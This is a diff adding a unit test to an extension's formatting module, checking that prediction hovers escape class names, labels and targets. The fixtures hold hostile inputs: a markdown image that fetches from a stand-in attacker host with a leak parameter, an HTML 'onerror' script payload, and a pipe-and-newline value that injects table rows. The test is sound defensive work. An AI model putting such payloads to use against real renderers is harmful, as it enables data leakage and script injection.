@@ -7,6 +7,7 @@ import {
   formatMetric,
   formatRelative,
   headlineMetric,
+  escapeMarkdown,
   predictionHover,
   predictionText,
   progressMessage,
@@ -103,6 +104,27 @@ describe('extension/format', () => {
     assert.match(md, /run `run-1`/);
     const reg = predictionHover({ input: {}, output: [11.0234] }, 'r2', undefined, ['price']);
     assert.match(reg, /\| price \| 11\.02 \|/);
+  });
+
+  it('escapes class names, labels and targets in the hover: no image, link or HTML from data (issue 14, case 5)', () => {
+    const evil = '![x](https://attacker.example/p.png?leak=1)';
+    const html = '<img src=x onerror=alert(1)>';
+    const hovers = [
+      predictionHover({ input: {}, output: [0.9, 0.1], label: evil, confidence: 0.9 }, 'r', [evil, html]),
+      predictionHover({ input: {}, output: [0.9], label: evil, confidence: 0.9 }, 'r'),
+      predictionHover({ input: {}, output: [1, 2] }, 'r', undefined, [evil, `a|b\n| c`]),
+    ];
+    for (const md of hovers) {
+      assert.doesNotMatch(md, /!\[/, md);
+      assert.doesNotMatch(md, /\]\(/, md);
+      assert.doesNotMatch(md, /<img/, md);
+      assert.doesNotMatch(md, /https:\/\//, md);
+    }
+    // The text itself is still all there, escaped.
+    assert.ok(hovers[0].includes(escapeMarkdown(evil)));
+    assert.equal(escapeMarkdown('a|b'), 'a\\|b');
+    // One table row per output: a "|" or a line break in a name cannot add cells or rows.
+    assert.equal(hovers[2].split('\n').filter((l) => l.startsWith('| ') && !l.startsWith('| target')).length, 2);
   });
 
   it('labels runs in the tree: when, status, backend, loss, headline metric, duration', () => {
